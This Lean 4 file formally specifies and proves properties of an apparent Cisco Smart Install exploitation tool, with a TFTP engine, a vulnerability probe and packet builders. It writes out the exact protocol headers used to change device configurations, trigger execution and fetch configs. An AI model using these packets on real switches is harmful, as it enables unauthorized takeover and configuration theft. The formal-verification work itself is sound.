import Mathlib

/-!
# Go-SIET: Smart Install packet codec and TFTP transfer engine

A shallow embedding of the packet builders (`libs/change_config.go`,
`libs/execute.go`, `libs/get_config.go`, `libs/client.go`), of the probe
classification (`libs/test.go`) and of the TFTP request handlers and transfer
loops (`libs/tftp.go`), followed by theorems about them.

Conventions of the embedding:

* a Go `byte` is a `Fin 256`; a Go `string` and a Go `[]byte` are a `List Byte`
  (a Go string is a sequence of bytes);
* a Go `int` is an `Int`; the conversion `byte(x)` keeps `x mod 256`; a `uint16`
  is a `Nat` below 65536 and `++` on it is taken modulo 65536;
* a builder that can stop with a run-time panic returns an `Option`, `none`
  being the panic;
* network and file input is an explicit argument (the list of chunks a
  connection delivers, the list of datagrams a socket receives, the bytes of a
  file), network and file output is an explicit result.
-/

namespace GoSIET

/-! ## Bytes and strings -/

/-- A Go `byte`. -/
abbrev Byte := Fin 256

/-- The Go conversion `byte(x)` of an integer: the low eight bits. -/
def toByte (x : Int) : Byte := ⟨(x % 256).toNat, by omega⟩

/-- The bytes of an ASCII string literal of the source. -/
def str (s : String) : List Byte := s.toList.map (fun c => toByte c.toNat)

/-- Go `make([]byte, n)` for `n ≥ 0`: `n` zero bytes. -/
def zeros (n : Nat) : List Byte := List.replicate n 0

/-- Go `make([]byte, n)` for an `int` length: a negative length panics
(`makeslice: len out of range`). -/
def makeBytes (n : Int) : Option (List Byte) :=
  if n < 0 then none else some (zeros n.toNat)

/-! ## `encoding/hex` -/

/-- The value of a hexadecimal digit, as `encoding/hex` reads it (both cases);
`none` for any other byte. -/
def fromHexChar (c : Byte) : Option Nat :=
  if 48 ≤ c.val ∧ c.val ≤ 57 then some (c.val - 48)
  else if 97 ≤ c.val ∧ c.val ≤ 102 then some (c.val - 97 + 10)
  else if 65 ≤ c.val ∧ c.val ≤ 70 then some (c.val - 65 + 10)
  else none

/-- Go `hex.DecodeString`: the bytes decoded before the first error, and whether
there was an error (a byte that is no hexadecimal digit, or an odd length). -/
def hexDecodeString : List Byte → List Byte × Bool
  | p :: q :: rest =>
    match fromHexChar p, fromHexChar q with
    | some a, some b =>
      let r := hexDecodeString rest
      (toByte ((a <<< 4) ||| b : Nat) :: r.1, r.2)
    | _, _ => ([], true)
  | [_] => ([], true)
  | [] => ([], false)

/-! ## Probe classification (`libs/test.go`) -/

/-- Go `io.ReadAtLeast(conn, buf, min)`, the loop `for n < min && err == nil`.
The connection is the list of chunks that successive `Read` calls find pending
(a `Read` returns at most the free room of the buffer); once the list is
exhausted `Read` returns `0` bytes and an error (end of stream or deadline).
`got` is what the buffer holds so far. The result is the bytes read and whether
the final error is non-nil, which is so exactly when fewer than `min` bytes
were read. -/
def readAtLeastLoop (bufLen min : Nat) : List (List Byte) → List Byte → List Byte × Bool
  | [], got => (got, decide (got.length < min))
  | c :: rest, got =>
    if min ≤ got.length then (got, false)
    else readAtLeastLoop bufLen min rest (got ++ c.take (bufLen - got.length))

/-- Go `io.ReadAtLeast` into a fresh zeroed buffer of `bufLen` bytes: the buffer
afterwards and whether an error is returned. -/
def readAtLeast (conn : List (List Byte)) (bufLen min : Nat) : List Byte × Bool :=
  if bufLen < min then (zeros bufLen, true)
  else
    let r := readAtLeastLoop bufLen min conn []
    (r.1 ++ zeros (bufLen - r.1.length), r.2)

/-- What `testSingleDevice` reports. `NotVulnerable` stands for the line
`... is not affected`, `Vulnerable` for `... is VULNERABLE`, `Ambiguous` for
`Unclear whether ... is affected`; the other three are the early returns. -/
inductive ProbeOutcome
  | DecodeError
  | ConnectError
  | SendError
  | NotVulnerable
  | Vulnerable
  | Ambiguous
  deriving DecidableEq, Repr

/-- The constant `testPacket` of `testSingleDevice`. -/
def testPacket : List Byte := str "00000001000000010000000400000008000000010000000000000000"

/-- The constant `expectedResponse` of `testSingleDevice`. -/
def expectedResponse : List Byte := str "00000004000000000000000300000008000000010000000000000000"

/-- One run of `testSingleDevice`: the bytes handed to `conn.Write` (empty when
the run stops before the write) and the outcome reported. -/
structure ProbeRun where
  sent : List Byte
  outcome : ProbeOutcome
  deriving DecidableEq, Repr

/-- `testSingleDevice`. `dialOk` and `writeOk` say whether `net.DialTimeout` and
`conn.Write` succeed; `conn` is what the peer delivers before the stream ends
or the deadline passes. -/
def testSingleDevice (dialOk writeOk : Bool) (conn : List (List Byte)) : ProbeRun :=
  let testData := hexDecodeString testPacket
  if testData.2 then ⟨[], .DecodeError⟩
  else
    let expectedData := hexDecodeString expectedResponse
    if expectedData.2 then ⟨[], .DecodeError⟩
    else if !dialOk then ⟨[], .ConnectError⟩
    else if !writeOk then ⟨testData.1, .SendError⟩
    else
      let response := readAtLeast conn expectedData.1.length expectedData.1.length
      if response.2 then ⟨testData.1, .NotVulnerable⟩
      else if response.1 = expectedData.1 then ⟨testData.1, .Vulnerable⟩
      else ⟨testData.1, .Ambiguous⟩

/-- The probe request, decoded: what `testSingleDevice` writes to the
connection. -/
def testData : List Byte := (hexDecodeString testPacket).1

/-- The expected-response pattern, decoded. -/
def expectedData : List Byte := (hexDecodeString expectedResponse).1

/-! ## TFTP transfer engine (`libs/tftp.go`) -/

/-- An open file as `sendFile` reads it: a regular file with its unread bytes,
or a handle whose reads fail with an error other than `io.EOF` (a directory,
a failing disk). -/
inductive OpenFile
  | regular (unread : List Byte)
  | unreadable
  deriving DecidableEq, Repr

/-- The error of a `file.Read`. -/
inductive ReadError
  | eof
  | other
  deriving DecidableEq, Repr

/-- Go `file.Read(buffer)` with a buffer of `bufLen` bytes: the bytes read, the
error, and the file afterwards. A regular file gives as many bytes as are left,
at most `bufLen`, and `io.EOF` with no bytes at its end. -/
def OpenFile.read : OpenFile → Nat → List Byte × Option ReadError × OpenFile
  | .regular unread, bufLen =>
    if unread.isEmpty then ([], some .eof, .regular [])
    else (unread.take bufLen, none, .regular (unread.drop bufLen))
  | .unreadable, _ => ([], some .other, .unreadable)

/-- `sendError`: the error datagram `0 5 code message 0`. -/
def errorPacket (errorCode : Nat) (message : List Byte) : List Byte :=
  [0, 5, toByte (errorCode >>> 8 : Nat), toByte (errorCode &&& 0xFF : Nat)] ++ message ++ [0]

/-- The DATA datagram that `sendFile` builds from block number `blockNum` and
the `n` bytes just read. -/
def dataPacket (blockNum : Nat) (chunk : List Byte) : List Byte :=
  [0, 3, toByte (blockNum >>> 8 : Nat), toByte (blockNum &&& 0xFF : Nat)] ++ chunk

/-- The `for` loop of `sendFile`: the datagrams written to the client, in
order. Each unit of fuel is one iteration; `none` when the fuel runs out before
the loop leaves. -/
def sendFileLoop : Nat → OpenFile → Nat → Option (List (List Byte))
  | 0, _, _ => none
  | fuel + 1, file, blockNum =>
    match file.read 512 with
    | (_, some .other, _) => some [errorPacket 0 (str "Read error")]
    | (chunk, _, file1) =>
      let packet := dataPacket blockNum chunk
      if chunk.length < 512 then some [packet]
      else (sendFileLoop fuel file1 ((blockNum + 1) % 65536)).map (fun out => packet :: out)

/-- `sendFile`: the loop started at block number 1. -/
def sendFile (fuel : Nat) (file : OpenFile) : Option (List (List Byte)) :=
  sendFileLoop fuel file 1

/-- A UDP address: IP (4 or 16 bytes) and port. -/
structure UDPAddr where
  IP : List Byte
  Port : Nat
  deriving DecidableEq, Repr

/-- The twelve bytes that lead an IPv4 address written as an IPv6 one. -/
def v4InV6Lead : List Byte := [0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff]

/-- Go `net.IP.Equal`: equal bytes, an IPv4 address being equal to its IPv6
form. -/
def ipEqual (ip x : List Byte) : Bool :=
  if ip.length = x.length then ip == x
  else if ip.length = 4 ∧ x.length = 16 then x.take 12 == v4InV6Lead && ip == x.drop 12
  else if ip.length = 16 ∧ x.length = 4 then ip.take 12 == v4InV6Lead && ip.drop 12 == x
  else false

/-- One datagram as it arrives at the socket: sender and bytes. -/
structure Inbound where
  addr : UDPAddr
  data : List Byte
  deriving DecidableEq, Repr

/-- The state of `receiveFile` between two iterations of its loop: what has been
written to the destination file, the datagrams sent to the client, the block
number expected next, and whether the loop has left. -/
structure Upload where
  file : List Byte
  sent : List (List Byte)
  expectedBlock : Nat
  finished : Bool
  deriving DecidableEq, Repr

/-- One iteration of the loop of `receiveFile`, for a datagram that
`ReadFromUDP` delivers into the 65536-byte buffer. The four `continue`s leave
the state as it is. -/
def receiveStep (clientAddr : UDPAddr) (st : Upload) (d : Inbound) : Upload :=
  if st.finished then st
  else
    let buffer := d.data.take 65536
    let n := buffer.length
    if !ipEqual d.addr.IP clientAddr.IP || d.addr.Port != clientAddr.Port then st
    else if n < 4 then st
    else
      let opcode := ((buffer.getD 0 0).val <<< 8) ||| (buffer.getD 1 0).val
      if opcode ≠ 3 then st
      else
        let blockNum := ((buffer.getD 2 0).val <<< 8) ||| (buffer.getD 3 0).val
        if blockNum ≠ st.expectedBlock then st
        else
          let dataLen := n - 4
          let file1 := if dataLen > 0 then st.file ++ (buffer.drop 4).take dataLen else st.file
          let ack := [0, 4, buffer.getD 2 0, buffer.getD 3 0]
          if dataLen < 512 then
            { file := file1, sent := st.sent ++ [ack], expectedBlock := st.expectedBlock,
              finished := true }
          else
            { file := file1, sent := st.sent ++ [ack],
              expectedBlock := (st.expectedBlock + 1) % 65536, finished := false }

/-- `receiveFile` on an empty destination file: ACK 0, then the loop over the
datagrams that arrive; when they are exhausted `ReadFromUDP` fails (deadline)
and the function returns. -/
def receiveFile (clientAddr : UDPAddr) (inbound : List Inbound) : Upload :=
  inbound.foldl (receiveStep clientAddr)
    { file := [], sent := [[0, 4, 0, 0]], expectedBlock := 1, finished := false }

/-! ### The upload protocol in the words of the specification -/

/-- The big-endian 16-bit opcode of a datagram. -/
def opcodeOf (data : List Byte) : Nat := 256 * (data.getD 0 0).val + (data.getD 1 0).val

/-- The big-endian 16-bit block number of a datagram. -/
def blockOf (data : List Byte) : Nat := 256 * (data.getD 2 0).val + (data.getD 3 0).val

/-- The payload of a DATA datagram: what follows its four header bytes. -/
def payloadOf (data : List Byte) : List Byte := data.drop 4

/-- The acknowledgment of a datagram: `0 4` and its block number in two
big-endian bytes. -/
def ackOf (data : List Byte) : List Byte :=
  [0, 4, toByte ((blockOf data / 256 : Nat)), toByte ((blockOf data % 256 : Nat))]

/-- A datagram is accepted when it comes from the IP and port of the write
request, has at least four bytes, opcode 3, and the expected block number. -/
def accepts (clientAddr : UDPAddr) (expected : Nat) (d : Inbound) : Bool :=
  ipEqual d.addr.IP clientAddr.IP && d.addr.Port == clientAddr.Port
    && decide (4 ≤ d.data.length) && opcodeOf d.data == 3 && blockOf d.data == expected

/-- The accepted datagrams of a sequence, in arrival order: the expected block
number goes up by one modulo 65536 after each accepted datagram with at least
512 payload bytes, and the first accepted datagram with a shorter payload is
the last one. -/
def acceptedFrom (clientAddr : UDPAddr) : Nat → List Inbound → List Inbound
  | _, [] => []
  | expected, d :: rest =>
    if accepts clientAddr expected d then
      if (payloadOf d.data).length < 512 then [d]
      else d :: acceptedFrom clientAddr ((expected + 1) % 65536) rest
    else acceptedFrom clientAddr expected rest

/-! ### The download protocol in the words of the specification -/

/-- Bytes `[lo, hi)` of a list. -/
def sliceBytes (l : List Byte) (lo hi : Nat) : List Byte := (l.take hi).drop lo

/-- The `k`-th DATA datagram of a download, `k = 1, 2, ...`, in the words of the
specification: `0 3`, the block number `k mod 65536` as two big-endian bytes,
then the file bytes `[512 (k - 1), min (512 k) N)`. -/
def specDatagram (content : List Byte) (k : Nat) : List Byte :=
  [0, 3, toByte ((k % 65536 / 256 : Nat)), toByte ((k % 65536 % 256 : Nat))]
    ++ sliceBytes content (512 * (k - 1)) (min (512 * k) content.length)

/-! ## `strings` and `strconv` -/

/-- Go `strings.Split(s, sep)` for a separator of one byte, as the source calls
it (`":"`, `"\x00"`): the pieces between the separators, one more than there
are separators; a string without the separator is its only piece. -/
def stringsSplit (sep : Byte) : List Byte → List (List Byte)
  | [] => [[]]
  | c :: cs =>
    if c = sep then [] :: stringsSplit sep cs
    else
      match stringsSplit sep cs with
      | [] => [[c]]
      | p :: ps => (c :: p) :: ps

/-- The error kinds of `strconv`: `ErrSyntax` and `ErrRange`. -/
inductive NumError
  | ErrSyntax
  | ErrRange
  deriving DecidableEq, Repr

/-- The digit loop of Go `strconv.ParseUint(s, 10, 64)`, `n` being the value
read so far. A byte that is no decimal digit is a syntax error with value 0;
leaving the 64-bit range is a range error with value `2^64 - 1`, returned at
once. -/
def parseUintLoop : List Byte → Nat → Nat × Option NumError
  | [], n => (n, none)
  | c :: cs, n =>
    if 48 ≤ c.val ∧ c.val ≤ 57 then
      let d := c.val - 48
      if n ≥ (2 ^ 64 - 1) / 10 + 1 then (2 ^ 64 - 1, some .ErrRange)
      else
        let n10 := n * 10
        let n1 := (n10 + d) % 2 ^ 64
        if n1 < n10 ∨ n1 > 2 ^ 64 - 1 then (2 ^ 64 - 1, some .ErrRange)
        else parseUintLoop cs n1
    else (0, some .ErrSyntax)

/-- Go `strconv.ParseUint(s, 10, 64)`. -/
def parseUint (s : List Byte) : Nat × Option NumError :=
  if s.isEmpty then (0, some .ErrSyntax) else parseUintLoop s 0

/-- Go `strconv.ParseInt(s, 10, 0)` with a 64-bit `int`. -/
def parseInt (s : List Byte) : Int × Option NumError :=
  match s with
  | [] => (0, some .ErrSyntax)
  | c :: cs =>
    let neg := decide (c = 45)
    let digits := if c = 43 ∨ c = 45 then cs else s
    let un := parseUint digits
    if un.2 = some .ErrSyntax then (0, some .ErrSyntax)
    else if !neg ∧ un.1 ≥ 2 ^ 63 then (2 ^ 63 - 1, some .ErrRange)
    else if neg ∧ un.1 > 2 ^ 63 then (-(2 ^ 63), some .ErrRange)
    else if neg then (-(un.1 : Int), none)
    else ((un.1 : Int), none)

/-- The digit loop of the fast path of Go `strconv.Atoi`: `ch -= '0'` on a byte
wraps, so that any byte but a digit ends above 9. `none` is the syntax error. -/
def atoiFastLoop : List Byte → Int → Option Int
  | [], n => some n
  | ch :: rest, n =>
    let d := (ch.val + 256 - 48) % 256
    if d > 9 then none else atoiFastLoop rest (n * 10 + d)

/-- Go `strconv.Atoi` with a 64-bit `int`: the value returned and the error. The
fast path takes the strings of 1 to 18 bytes, `ParseInt` the others. -/
def atoi (s : List Byte) : Int × Option NumError :=
  if 0 < s.length ∧ s.length < 19 then
    match s with
    | [] => (0, some .ErrSyntax)
    | c :: cs =>
      let digits := if c = 45 ∨ c = 43 then cs else s
      if (c = 45 ∨ c = 43) ∧ digits.length < 1 then (0, some .ErrSyntax)
      else
        match atoiFastLoop digits 0 with
        | none => (0, some .ErrSyntax)
        | some n => if c = 45 then (-n, none) else (n, none)
  else parseInt s

/-! ## Packet builders -/

/-- The constant `header` of `buildChangeConfigPacket`. -/
def changeConfigHeader : List Byte :=
  str "000000010000000100000003000001280000000300000000000000000000000200000000000000010000"

/-- `buildChangeConfigPacket` (`libs/change_config.go`). `none` is a run-time
panic: `parts[1]` out of range when the reload time has no colon, or a negative
length given to `make`. -/
def buildChangeConfigPacket (tftpPath reloadTime : List Byte) : Option (List Byte) := do
  let parts := stringsSplit 58 reloadTime
  let hours := (atoi (← parts[0]?)).1
  let minutes := (atoi (← parts[1]?)).1
  let headerBytes := (hexDecodeString changeConfigHeader).1
  let timeBytes : List Byte := [toByte hours, 0, 0, 0, 0, 0, toByte minutes, 0]
  let padding := zeros 264
  let pathBytes := tftpPath
  let pathPadding ← makeBytes (264 - (pathBytes.length : Int))
  let packet := headerBytes ++ timeBytes
  let packet := packet ++ padding
  let packet := packet ++ pathBytes
  let packet := packet ++ pathPadding
  pure packet

/-- The constant `header` of `buildExecutePacket`. -/
def executeHeader : List Byte := str "000000020000000100000005000000d200000001"

/-- `buildExecutePacket` (`libs/execute.go`). `none` is the run-time panic of
`make` with a negative length. -/
def buildExecutePacket (tftpPath : List Byte) : Option (List Byte) := do
  let headerBytes := (hexDecodeString executeHeader).1
  let cmd1Padding := zeros 128
  let cmd2Padding := zeros 264
  let pathBytes := tftpPath
  let pathPadding ← makeBytes (131 - (pathBytes.length : Int))
  let terminator : List Byte := [0x01]
  let packet := headerBytes ++ cmd1Padding
  let packet := packet ++ cmd2Padding
  let packet := packet ++ pathBytes
  let packet := packet ++ pathPadding
  let packet := packet ++ terminator
  pure packet

/-- `padCommand` (`libs/client.go`): the command cut to `length` bytes when it
has that many, else followed by zero bytes up to `length`. -/
def padCommand (cmd : List Byte) (length : Nat) : List Byte :=
  let cmdBytes := cmd
  if cmdBytes.length ≥ length then cmdBytes.take length
  else cmdBytes ++ zeros (length - cmdBytes.length)

/-- The constant `header` of `buildGetConfigPacket`. -/
def getConfigHeader : List Byte :=
  str "000000010000000100000008000004080001001400000001000000000000fc99473786600000000303f4"

/-- `buildGetConfigPacket` (`libs/get_config.go`). -/
def buildGetConfigPacket (cmd1 cmd2 : List Byte) : List Byte :=
  let headerBytes := (hexDecodeString getConfigHeader).1
  let cmd1Padded := padCommand cmd1 336
  let cmd2Padded := padCommand cmd2 336
  let packet := headerBytes ++ cmd1Padded
  let packet := packet ++ cmd2Padded
  packet

/-! ### Reload times in the words of the specification -/

/-- A decimal numeral: one digit or more. -/
def isDigits (s : List Byte) : Bool :=
  !s.isEmpty && s.all (fun c => decide (48 ≤ c.val) && decide (c.val ≤ 57))

/-- The value of a decimal numeral. -/
def decimalValue (s : List Byte) : Nat := s.foldl (fun n c => 10 * n + (c.val - 48)) 0

/-- The integer a string denotes: a decimal numeral, after `+` or `-` or
nothing; `none` for any other string. -/
def integerValue (s : List Byte) : Option Int :=
  match s with
  | [] => none
  | c :: cs =>
    if c = 43 then (if isDigits cs then some (decimalValue cs : Int) else none)
    else if c = 45 then (if isDigits cs then some (-(decimalValue cs : Int)) else none)
    else if isDigits s then some (decimalValue s : Int) else none

/-- The part of a reload time before its first colon. -/
def hourComponent (reloadTime : List Byte) : List Byte :=
  reloadTime.takeWhile (fun c => c != 58)

/-- The part of a reload time between its first colon and the next one, or the
end of the string. -/
def minuteComponent (reloadTime : List Byte) : List Byte :=
  ((reloadTime.dropWhile (fun c => c != 58)).drop 1).takeWhile (fun c => c != 58)

/-! ### The headers, decoded -/

/-- The bytes of `changeConfigHeader`. -/
def changeConfigHeaderBytes : List Byte :=
  [0, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0, 3, 0, 0, 1, 0x28, 0, 0, 0, 3, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2,
   0, 0, 0, 0, 0, 0, 0, 1, 0, 0]

/-- The bytes of `executeHeader`. -/
def executeHeaderBytes : List Byte :=
  [0, 0, 0, 2, 0, 0, 0, 1, 0, 0, 0, 5, 0, 0, 0, 0xd2, 0, 0, 0, 1]

/-- The bytes of `getConfigHeader`. -/
def getConfigHeaderBytes : List Byte :=
  [0, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0, 8, 0, 0, 4, 8, 0, 1, 0, 0x14, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0,
   0xfc, 0x99, 0x47, 0x37, 0x86, 0x60, 0, 0, 0, 0x03, 0x03, 0xf4]

/-! ## `path/filepath` and the request handlers (`libs/tftp.go`) -/

/-- One path element in the loop of Go `filepath.Clean`, `out` being the
elements kept so far: an empty element and `.` are dropped; `..` removes the
last element kept when that is a real one, and is itself kept when there is
none to remove and the path is not rooted; any other element is kept. -/
def cleanStep (rooted : Bool) (out : List (List Byte)) (comp : List Byte) : List (List Byte) :=
  if comp = [] ∨ comp = str "." then out
  else if comp = str ".." then
    match out.getLast? with
    | some last =>
      if last ≠ str ".." then out.dropLast
      else if rooted then out else out ++ [comp]
    | none => if rooted then out else out ++ [comp]
  else out ++ [comp]

/-- Go `filepath.Clean` on a Unix path, element by element: the shortest path
that names the same location by purely lexical processing; the empty result of
a path that is not rooted is `.`. -/
def filepathClean (path : List Byte) : List Byte :=
  if path = [] then str "."
  else
    let rooted := decide (path.head? = some 47)
    let out := (stringsSplit 47 path).foldl (cleanStep rooted) []
    let cleaned := (if rooted then [47] else []) ++ List.intercalate [47] out
    if cleaned = [] then str "." else cleaned

/-- Go `filepath.Join`: the elements from the first one that is not empty on,
joined with `/` and cleaned; the empty string when all are empty. -/
def filepathJoin (elem : List (List Byte)) : List Byte :=
  match elem.dropWhile (fun e => e.isEmpty) with
  | [] => []
  | rest => filepathClean (List.intercalate [47] rest)

/-- The file system as the request handlers use it: `os.Open` of a path gives
an open file or fails (`none`), `os.Create` of a path succeeds or fails. -/
structure FileSystem where
  osOpen : List Byte → Option OpenFile
  osCreate : List Byte → Bool

/-- What handling one request does: the paths given to `os.Open` and to
`os.Create`, the bytes written to the created file, and the datagrams sent to
the client. -/
structure Handled where
  opened : List (List Byte)
  created : List (List Byte)
  written : List Byte
  sent : List (List Byte)
  deriving DecidableEq, Repr

/-- A handler that returns at once: no file touched, no datagram sent. -/
def Handled.nothing : Handled := ⟨[], [], [], []⟩

/-- `handleReadRequest`, on the bytes after the opcode. `none` only when the
fuel of `sendFile` runs out. -/
def handleReadRequest (fuel : Nat) (fs : FileSystem) (data : List Byte) : Option Handled :=
  let parts := stringsSplit 0 data
  if parts.length < 2 then some Handled.nothing
  else
    let filename := parts.getD 0 []
    let filePath := filepathJoin [str "tftp", filename]
    match fs.osOpen filePath with
    | none => some ⟨[filePath], [], [], [errorPacket 1 (str "File not found")]⟩
    | some file => (sendFile fuel file).map (fun out => ⟨[filePath], [], [], out⟩)

/-- `handleWriteRequest`, on the bytes after the opcode; `inbound` is what the
socket delivers to `receiveFile` afterwards. -/
def handleWriteRequest (fs : FileSystem) (data : List Byte) (clientAddr : UDPAddr)
    (inbound : List Inbound) : Handled :=
  let parts := stringsSplit 0 data
  if parts.length < 2 then Handled.nothing
  else
    let filename := parts.getD 0 []
    let filePath := filepathJoin [str "tftp", filename]
    if !fs.osCreate filePath then
      ⟨[], [filePath], [], [errorPacket 2 (str "Cannot create file")]⟩
    else
      let up := receiveFile clientAddr inbound
      ⟨[], [filePath], up.file, up.sent⟩

/-- `handleRequest`, on one datagram received by `Start`. -/
def handleRequest (fuel : Nat) (fs : FileSystem) (data : List Byte) (clientAddr : UDPAddr)
    (inbound : List Inbound) : Option Handled :=
  if data.length < 4 then some Handled.nothing
  else
    let opcode := ((data.getD 0 0).val <<< 8) ||| (data.getD 1 0).val
    if opcode = 1 then handleReadRequest fuel fs (data.drop 2)
    else if opcode = 2 then some (handleWriteRequest fs (data.drop 2) clientAddr inbound)
    else some Handled.nothing

/-! ## Theorems -/

set_option maxRecDepth 100000

/-! ### Probe classification -/

theorem take_fill {α : Type} (a b r : List α) (n : Nat) :
    (a ++ b.take (n - a.length) ++ r).take n = (a ++ b ++ r).take n := by
  by_cases hb : b.length ≤ n - a.length
  · rw [List.take_of_length_le hb]
  · simp only [List.append_assoc, List.take_append_eq_append_take, List.take_take,
      List.length_take, List.length_append]
    have e1 : n - a.length - min (n - a.length) b.length = 0 := by omega
    have e2 : n - a.length - b.length = 0 := by omega
    simp [e1, e2]

theorem length_fill {α : Type} (a b r : List α) (n : Nat) :
    (a ++ b.take (n - a.length) ++ r).length < n ↔ (a ++ b ++ r).length < n := by
  simp only [List.length_append, List.length_take]
  omega

/-- The loop of `io.ReadAtLeast` with a buffer of exactly `n = min` bytes reads
the first `n` bytes of the stream, and fails exactly when the stream is shorter. -/
theorem readAtLeastLoop_spec (n : Nat) (conn : List (List Byte)) (got : List Byte)
    (hgot : got.length ≤ n) :
    readAtLeastLoop n n conn got
      = ((got ++ conn.flatten).take n, decide ((got ++ conn.flatten).length < n)) := by
  induction conn generalizing got with
  | nil => simp [readAtLeastLoop, List.take_of_length_le hgot]
  | cons c rest ih =>
    by_cases h : n ≤ got.length
    · have hn : got.length = n := le_antisymm hgot h
      simp [readAtLeastLoop, h, List.take_append_eq_append_take, hn]
    · rw [readAtLeastLoop, if_neg h, ih _ (by simp; omega)]
      simp only [List.flatten_cons, ← List.append_assoc, take_fill, length_fill]

theorem readAtLeast_spec (n : Nat) (conn : List (List Byte)) :
    readAtLeast conn n n
      = (if conn.flatten.length < n then conn.flatten ++ zeros (n - conn.flatten.length)
          else conn.flatten.take n,
         decide (conn.flatten.length < n)) := by
  simp only [readAtLeast, lt_irrefl, if_false, readAtLeastLoop_spec n conn [] (Nat.zero_le _),
    List.nil_append]
  generalize conn.flatten = s
  by_cases h : s.length < n
  · simp [h, List.take_of_length_le (Nat.le_of_lt h)]
  · have h' : n - min n s.length = 0 := by omega
    simp [h, zeros, h']

theorem expectedData_length : expectedData.length = 28 := by decide

/-- C1. Once the connection and the write have succeeded, the outcome of
`testSingleDevice` is a function of the bytes the peer delivers before the
stream ends or the deadline passes: `NotVulnerable` when they are fewer than the
expected pattern is long, `Vulnerable` when the first bytes, as many as the
pattern has, equal the pattern byte for byte, `Ambiguous` when that many bytes
arrive and differ from the pattern. -/
theorem testSingleDevice_classification (conn : List (List Byte)) :
    (testSingleDevice true true conn).outcome
      = if conn.flatten.length < expectedData.length then ProbeOutcome.NotVulnerable
        else if conn.flatten.take expectedData.length = expectedData then ProbeOutcome.Vulnerable
        else ProbeOutcome.Ambiguous := by
  have h1 : (hexDecodeString testPacket).2 = false := by decide
  have h2 : (hexDecodeString expectedResponse).2 = false := by decide
  have h3 : (hexDecodeString expectedResponse).1 = expectedData := rfl
  simp only [testSingleDevice, h1, h2, h3, readAtLeast_spec, Bool.false_eq_true, if_false,
    Bool.not_true]
  generalize conn.flatten = s
  by_cases h : s.length < expectedData.length
  · simp [h]
  · simp only [h, decide_False, Bool.false_eq_true, if_false]
    split <;> rfl


/-! ### Download: `sendFile` -/

theorem dataPacket_eq (b : Nat) (chunk : List Byte) :
    dataPacket b chunk = [0, 3, toByte (b / 256 : Nat), toByte (b % 256 : Nat)] ++ chunk := by
  have h1 : b >>> 8 = b / 256 := by rw [Nat.shiftRight_eq_div_pow]
  have h2 : b &&& 0xFF = b % 256 := Nat.and_pow_two_sub_one_eq_mod b 8
  simp only [dataPacket, h1, h2]

theorem sendFileLoop_regular (fuel : Nat) : ∀ (rest : List Byte) (b : Nat),
    rest.length / 512 + 1 ≤ fuel →
    sendFileLoop fuel (.regular rest) (b % 65536)
      = some ((List.range (rest.length / 512 + 1)).map
          (fun i => dataPacket ((b + i) % 65536) ((rest.drop (512 * i)).take 512))) := by
  induction fuel with
  | zero => intro rest b h; omega
  | succ fuel ih =>
    intro rest b hfuel
    by_cases hlen : rest.length < 512
    · have hdiv : rest.length / 512 = 0 := Nat.div_eq_of_lt hlen
      have r1 : List.range 1 = [0] := rfl
      by_cases hemp : rest = []
      · subst hemp
        simp [sendFileLoop, OpenFile.read, r1]
      · have : rest.isEmpty = false := by cases rest <;> simp_all
        simp [sendFileLoop, OpenFile.read, this, hdiv, hlen, r1,
          List.take_of_length_le (Nat.le_of_lt hlen)]
    · have hne : rest.isEmpty = false := by cases rest <;> simp_all
      have hdrop : (rest.drop 512).length / 512 + 1 = rest.length / 512 := by
        simp only [List.length_drop]; omega
      have hlt : ¬ (List.take 512 rest).length < 512 := by simp only [List.length_take]; omega
      have hb : (b % 65536 + 1) % 65536 = (b + 1) % 65536 := by omega
      simp only [sendFileLoop, OpenFile.read, hne, Bool.false_eq_true, if_false, hlt, hb]
      rw [ih (rest.drop 512) (b + 1) (by omega), hdrop]
      conv_rhs => rw [List.range_succ_eq_map]
      simp [List.drop_drop, Function.comp_def, Nat.mul_add, Nat.add_comm, Nat.add_left_comm]

theorem sliceBytes_chunk (l : List Byte) (i : Nat) :
    sliceBytes l (512 * (i + 1 - 1)) (min (512 * (i + 1)) l.length)
      = (l.drop (512 * i)).take 512 := by
  have h : List.take (min (512 * (i + 1)) l.length) l = List.take (512 * (i + 1)) l := by
    rcases Nat.le_total (512 * (i + 1)) l.length with h | h
    · rw [Nat.min_eq_left h]
    · rw [Nat.min_eq_right h, List.take_of_length_le h, List.take_of_length_le (le_refl _)]
  rw [sliceBytes, h, List.drop_take]
  congr 1
  omega

theorem chunks_flatten (n : Nat) : ∀ l : List Byte, l.length / 512 = n →
    ((List.range (n + 1)).map (fun i => (l.drop (512 * i)).take 512)).flatten = l := by
  induction n with
  | zero =>
    intro l h
    have hl : l.length ≤ 512 := by omega
    have r1 : List.range 1 = [0] := rfl
    simp [r1, List.take_of_length_le hl]
  | succ n ih =>
    intro l h
    have h2 : (l.drop 512).length / 512 = n := by simp only [List.length_drop]; omega
    have := ih (l.drop 512) h2
    rw [List.range_succ_eq_map]
    simp only [List.map_cons, List.map_map, List.flatten_cons, Nat.mul_zero, List.drop_zero]
    have e : ((fun i => List.take 512 (List.drop (512 * i) l)) ∘ Nat.succ)
        = (fun i => List.take 512 (List.drop (512 * i) (List.drop 512 l))) := by
      funext i
      simp [List.drop_drop, Nat.mul_add, Nat.add_comm]
    rw [e, this, List.take_append_drop]

/-- C2. For a regular file of `N` bytes, `sendFile` (given fuel for `N / 512 + 1`
iterations) sends exactly `N / 512 + 1` DATA datagrams, the `k`-th being `0 3`,
the block number `k mod 65536` in two big-endian bytes, and the file bytes
`[512 (k - 1), min (512 k) N)`. The payloads concatenated are the file, every
datagram but the last has 512 payload bytes, the last has fewer, and it is an
empty DATA block when `N` is a multiple of 512. -/
theorem sendFile_datagrams (content : List Byte) (fuel : Nat)
    (hfuel : content.length / 512 + 1 ≤ fuel) :
    sendFile fuel (.regular content)
        = some ((List.range (content.length / 512 + 1)).map (fun i => specDatagram content (i + 1)))
      ∧ ((List.range (content.length / 512 + 1)).map
            (fun i => specDatagram content (i + 1))).length = content.length / 512 + 1
      ∧ ((List.range (content.length / 512 + 1)).map
            (fun i => (specDatagram content (i + 1)).drop 4)).flatten = content
      ∧ (∀ i, i < content.length / 512 → ((specDatagram content (i + 1)).drop 4).length = 512)
      ∧ ((specDatagram content (content.length / 512 + 1)).drop 4).length < 512
